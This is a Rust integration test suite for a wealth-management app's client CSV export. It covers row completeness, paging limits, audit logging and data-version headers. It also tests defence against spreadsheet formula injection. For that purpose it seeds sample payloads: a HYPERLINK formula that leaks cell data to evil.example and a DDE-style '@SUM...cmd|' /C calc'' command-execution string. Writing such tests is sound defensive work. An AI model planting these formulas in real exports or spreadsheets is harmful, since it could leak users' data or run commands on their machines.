//! The client export through the real HTTP surface: every row in scope however many (more
//! than any page of the list), and no cell a spreadsheet would run as a formula, while numbers
//! stay numbers.

mod common;

use std::collections::BTreeSet;

use common::{server_fn, TestApp, DEMO_PASSWORD};
use pms_domain::status::DataStatus;
use reqwest::StatusCode;
use sqlx::PgPool;

const COMPLIANCE: &str = "omkar.deshpande@sahyadricapital.example";
/// More than the list's largest page (500), on top of the demo's clients.
const EXTRA_CLIENTS: i32 = 650;
const FORMULA_NAME: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")";

/// The column of the export's header named `name`.
fn column(header: &csv::StringRecord, name: &str) -> usize {
    header
        .iter()
        .position(|h| h == name)
        .unwrap_or_else(|| panic!("the export has a {name:?} column"))
}

#[sqlx::test(migrations = "../migrations")]
async fn the_client_export_has_every_row_and_runs_no_formula(pool: PgPool) {
    let app = TestApp::start(pool.clone(), true).await;
    sqlx::query(
        "INSERT INTO dim_client (name, ws_client_code, city, state, status, onboarding_date)
         SELECT 'Bulk Client ' || i, 'BULK' || lpad(i::text, 5, '0'), 'Pune', 'Maharashtra',
                CASE WHEN i % 10 = 0 THEN 'Closed' ELSE 'Active' END, date '2024-04-01' + i
         FROM generate_series(1, $1) AS i",
    )
    .bind(EXTRA_CLIENTS)
    .execute(&pool)
    .await
    .unwrap();
    // A client whose name and city a spreadsheet would run, with a loss: negative figures.
    let hostile: i32 = sqlx::query_scalar(
        "INSERT INTO dim_client (name, ws_client_code, city, state, status)
         VALUES ($1, 'HOSTILE01', '@SUM(1+1)*cmd|'' /C calc''!A0', '-2+3', 'Active') RETURNING client_id",
    )
    .bind(FORMULA_NAME)
    .fetch_one(&pool)
    .await
    .unwrap();
    sqlx::query(
        "INSERT INTO agg_client (client_id, aum, portfolios, twrr_1y, xirr_si)
         VALUES ($1, -1234.50, 1, -0.0525, -0.125)",
    )
    .bind(hostile)
    .execute(&pool)
    .await
    .unwrap();
    let every_code: BTreeSet<String> =
        sqlx::query_scalar::<_, Option<String>>("SELECT ws_client_code FROM dim_client")
            .fetch_all(&pool)
            .await
            .unwrap()
            .into_iter()
            .map(Option::unwrap_or_default)
            .collect();
    let every_client: i64 = sqlx::query_scalar("SELECT count(*) FROM dim_client")
        .fetch_one(&pool)
        .await
        .unwrap();
    assert!(every_client > 1_000, "more clients than any page holds");

    let compliance = app.login(COMPLIANCE, DEMO_PASSWORD).await;
    let response = compliance
        .get(app.url("/api/v1/exports/clients.csv?include_closed=true"))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    assert!(response.headers()["content-type"]
        .to_str()
        .unwrap()
        .starts_with("text/csv"));
    let body = response.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let header = reader.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();

    // Every client, each once.
    assert_eq!(rows.len() as i64, every_client, "one row per client");
    let code = column(&header, "Client code");
    let exported: BTreeSet<String> = rows.iter().map(|r| r[code].to_owned()).collect();
    assert_eq!(exported, every_code, "every client code");
    // The list itself still pages: at most 500 rows, and a bigger page is refused with why.
    let listed: serde_json::Value = compliance
        .get(app.url("/api/v1/clients?include_closed=true&page_size=500"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(listed["total"].as_i64(), Some(every_client));
    assert_eq!(listed["items"].as_array().unwrap().len(), 500);
    let too_big = compliance
        .get(app.url("/api/v1/clients?include_closed=true&page_size=100000"))
        .send()
        .await
        .unwrap();
    assert_eq!(too_big.status(), StatusCode::BAD_REQUEST);
    assert!(too_big.text().await.unwrap().contains("page_size"));

    // Text cells that start a formula are defused; the numbers of the same row stay numbers.
    let row = rows
        .iter()
        .find(|r| &r[code] == "HOSTILE01")
        .expect("the hostile client is exported");
    assert_eq!(&row[column(&header, "Client")], format!("'{FORMULA_NAME}"));
    assert_eq!(
        &row[column(&header, "City")],
        "'@SUM(1+1)*cmd|' /C calc'!A0"
    );
    assert_eq!(&row[column(&header, "State")], "'-2+3");
    assert_eq!(&row[column(&header, "AUM (INR)")], "-1234.50");
    assert_eq!(&row[column(&header, "TWRR 1Y")], "-5.2500");
    assert_eq!(&row[column(&header, "XIRR SI")], "-12.5000");
    for r in &rows {
        for cell in r.iter() {
            assert!(
                !cell.starts_with(['=', '+', '@', '\t', '\r']),
                "no cell may start a formula: {cell:?}"
            );
        }
    }

    // The audit trail records the export with its real size.
    let audited: Option<i64> = sqlx::query_scalar(
        "SELECT (details::jsonb->>'rows')::bigint FROM audit_log WHERE action = 'export.csv' AND actor = $1",
    )
    .bind(COMPLIANCE)
    .fetch_optional(&pool)
    .await
    .unwrap();
    assert_eq!(audited, Some(every_client));
}

/// The page's own export link (`q`, `sort`, `dir`, `closed`) is read by the export exactly as
/// the page reads it: the file holds the clients the searched table shows, in its order.
#[sqlx::test(migrations = "../migrations")]
async fn the_export_link_of_a_searched_page_exports_what_the_page_shows(pool: PgPool) {
    let app = TestApp::start(pool.clone(), true).await;
    let compliance = app.login(COMPLIANCE, DEMO_PASSWORD).await;
    // The commonest first name among active clients, and how many active names contain it.
    let word: String = sqlx::query_scalar(
        "SELECT split_part(name, ' ', 1) FROM dim_client WHERE status = 'Active'
         GROUP BY 1 ORDER BY count(*) DESC, 1 LIMIT 1",
    )
    .fetch_one(&pool)
    .await
    .unwrap();
    let expected: i64 = sqlx::query_scalar(
        "SELECT count(*) FROM dim_client WHERE status = 'Active' AND lower(name) LIKE '%' || lower($1) || '%'",
    )
    .bind(&word)
    .fetch_one(&pool)
    .await
    .unwrap();
    let all_active: i64 =
        sqlx::query_scalar("SELECT count(*) FROM dim_client WHERE status = 'Active'")
            .fetch_one(&pool)
            .await
            .unwrap();
    assert!(
        expected >= 2 && expected < all_active,
        "{word:?} narrows the list"
    );
    let page = pms_domain::clients::ClientQuery {
        search: Some(word.clone()),
        sort: pms_domain::clients::ClientSort::Name,
        descending: false,
        ..pms_domain::clients::ClientQuery::defaults(25)
    };
    let query: Vec<(&str, String)> = page.to_params();
    let response = compliance
        .get(app.url("/api/v1/exports/clients.csv"))
        .query(&query)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let text = response.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let name = column(&reader.headers().unwrap().clone(), "Client");
    let names: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[name].to_owned())
        .collect();
    assert_eq!(names.len() as i64, expected, "searching {word:?}");
    let mut sorted = names.clone();
    sorted.sort_by_key(|n| n.to_lowercase());
    assert_eq!(names, sorted, "in the page's order (name, ascending)");

    let refused = compliance
        .get(app.url("/api/v1/exports/clients.csv?sort=size"))
        .send()
        .await
        .unwrap();
    assert_eq!(refused.status(), StatusCode::BAD_REQUEST);
}

/// The data version of one export: its header and its file name must agree.
async fn export_version(user: &reqwest::Client, app: &TestApp) -> i64 {
    let response = user
        .get(app.url("/api/v1/exports/clients.csv"))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let version: i64 = response.headers()["x-data-version"]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    let disposition = response.headers()["content-disposition"].to_str().unwrap();
    assert_eq!(
        disposition,
        format!("attachment; filename=\"clients-v{version}.csv\"")
    );
    version
}

#[sqlx::test(migrations = "../migrations")]
async fn the_header_and_the_export_carry_the_data_version_which_advances_after_a_change(
    pool: PgPool,
) {
    let app = TestApp::start(pool.clone(), true).await;
    let compliance = app.login(COMPLIANCE, DEMO_PASSWORD).await;
    let status: DataStatus = server_fn(&compliance, app.url("/api/data/status"), &[]).await;
    assert!(status.data_version > 0, "the demo load published a version");
    assert_eq!(export_version(&compliance, &app).await, status.data_version);

    // A change the dashboard reads (a portfolio's figures refreshed) publishes a new version.
    sqlx::query("INSERT INTO agg_dirty_portfolio (portfolio_id) SELECT min(portfolio_id) FROM dim_portfolio")
        .execute(&pool)
        .await
        .unwrap();
    pms_ingest::aggregate::refresh_dirty(&pool).await.unwrap();
    let after: DataStatus = server_fn(&compliance, app.url("/api/data/status"), &[]).await;
    assert!(
        after.data_version > status.data_version,
        "the version advanced"
    );
    assert_eq!(export_version(&compliance, &app).await, after.data_version);
}
